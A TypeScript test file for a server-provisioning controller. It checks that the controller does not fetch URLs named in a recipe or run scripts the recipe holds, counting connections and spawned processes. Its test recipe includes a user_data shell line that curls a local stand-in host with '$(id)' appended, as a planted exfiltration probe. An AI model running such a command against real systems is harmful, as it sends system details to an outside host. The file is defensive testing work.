import { spawn } from 'node:child_process';
import { subscribe, unsubscribe } from 'node:diagnostics_channel';
import { once } from 'node:events';
import { connect, createServer } from 'node:net';
import type { AddressInfo, Server } from 'node:net';

import { recipeSchemaId } from '@assay/recipe';
import { afterAll, beforeAll, expect, it, onTestFinished } from 'vitest';

import { asAdmin, asJson, openTestStore, startController } from '../../testing/test-controller.ts';
import type { TestController, TestStore } from '../../testing/test-controller.ts';

let store: TestStore;
let controller: TestController;
let webServer: Server;
let address: string;
let connections = 0;

beforeAll(async () => {
  store = await openTestStore();
  controller = await startController(store);
  webServer = createServer((socket) => {
    connections++;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  await once(webServer, 'listening');
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- It listens on TCP.
  address = `127.0.0.1:${(webServer.address() as AddressInfo).port}`;
});

afterAll(async () => {
  webServer.close();
  await store.close();
});

/** Counts the connections to the server of this test and the processes that are begun. */
function watch(): () => { readonly connections: number; readonly processes: number } {
  let processes = 0;
  const count = (): void => void processes++;
  subscribe('child_process', count);
  onTestFinished(() => void unsubscribe('child_process', count));
  const before = connections;
  return () => ({ connections: connections - before, processes });
}

it('fetches nothing that a recipe names and runs nothing that it holds', async () => {
  const recipe = {
    $schema: recipeSchemaId,
    task_target: 'install-linux.target',
    target_disk: '/dev/sda',
    oci_url: `${address}/image:1`,
    firmware_url: `http://${address}/firmware.rom`,
    user_data: `#!/bin/sh\ncurl http://${address}/$(id)\n`,
    partition_layout: [{ size: '100%', type_guid: '8300', format: 'ext4' }],
    metadata: { $ref: `http://${address}/metadata`, url: `http://${address}/` },
  };
  const seen = watch();

  const id = await controller.createJob(await controller.newServer(), recipe);
  await controller.provision(id);
  const faulty = { ...recipe, $schema: `http://${address}/recipe.schema.json` };
  const refused = await controller.send('POST', '/api/v1/recipes/validate', { headers: { ...asAdmin, ...asJson }, body: faulty });

  expect(refused.status).toBe(400);
  expect(seen()).toEqual({ connections: 0, processes: 0 });
});

it('would be seen to fetch or run something', async () => {
  const seen = watch();

  await once(connect(Number(address.split(':')[1]), '127.0.0.1'), 'close');
  await once(spawn(process.execPath, ['-e', '1']), 'exit');

  expect(seen()).toEqual({ connections: 1, processes: 1 });
});
